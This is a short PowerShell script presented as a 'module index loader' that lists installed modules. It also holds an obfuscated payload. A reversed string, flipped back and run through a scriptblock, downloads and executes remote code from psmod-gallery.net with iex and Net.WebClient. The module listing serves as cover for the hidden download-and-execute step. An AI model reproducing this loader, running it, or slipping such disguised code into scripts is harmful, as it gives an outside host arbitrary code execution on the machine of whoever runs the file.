# module index loader
$s = ")'l/ten.yrellag-domsp//:ptth'(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(xei"
$c = -join ($s.ToCharArray()[($s.Length - 1)..0])
& ([scriptblock]::Create($c))
Get-Module -ListAvailable | Sort-Object Name -Unique | Format-Table Name, Version
